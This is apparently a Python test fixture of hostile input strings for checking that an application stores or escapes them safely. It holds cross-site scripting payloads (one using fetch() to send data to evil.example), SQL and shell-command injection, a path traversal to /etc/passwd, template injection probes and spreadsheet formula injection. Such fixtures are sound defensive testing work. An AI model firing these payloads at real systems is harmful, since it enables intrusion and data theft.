"""A few attack strings of our own, one of each kind."""

SCRIPTING = (
    '"><img src=x onerror=alert(1)>',
    "</p></div></textarea><script>alert(document.domain)</script>",
    "<svg/onload=fetch('https://evil.example/'+localStorage.length)>",
    "javascript:alert(1)//https://example.com/",
    "{{constructor.constructor('alert(1)')()}}",
    'https://example.com/"onmouseover=alert(1)//',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)
STRINGS = (
    "\x1b[2J\x1b]0;owned\x07\x9b31m and \x1bP+q544e\x1b\\",
    "abc\u202edcba\u2066x\u2069 \u200f\u061c",
    "two\nlines\r\nand a third\u2028and a fourth",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324 algo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u7530\u4e2d\u3055\u3093 \U0001f1fa\U0001f1f8",
    "\U000e0041\U000e0042 tags, \ufeffmarks, \ufffe\uffff",
    "' OR 1=1; DROP TABLE leads; --",
    "$(touch /tmp/pwned) `id` ${HOME} %s %n %x {0} {note}",
    "undefined null NaN true 1e999 -0 0x10",
    "../../../../etc/passwd%00.png",
    "a" * 4096,
    "\\u0000 \\x00 %00 &#0; &lt;b&gt;",
)
TEMPLATES = (
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ note }}{{ first_name }}",
    "${7*7} #{7*7} <%= 7*7 %> {7*7} *{7*7} @(7*7) %(note)s {note.__class__}",
    "{# #}{% raw %}{{ note }}{% endraw %}",
)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", " \n=1+1", "=cmd|' /C calc'!A0", "|calc", "%0", "\uff1d1+1",
    "x;=1+1", "x\t=1+1", 'say "=1+1", please', "-5", "+49 30 901820",
)  # fmt: skip
ALTERED = {
    "nothing\0 between": "nothing between",
    "half a \ud83d pair": "half a ? pair",
    "\ud83d\ude00 a whole pair": "\U0001f600 a whole pair",
}
"""What cannot be stored everywhere, and what is stored instead."""
OURS = (*SCRIPTING, *STRINGS, *TEMPLATES, *FORMULAS)
"""All that are kept as they are."""
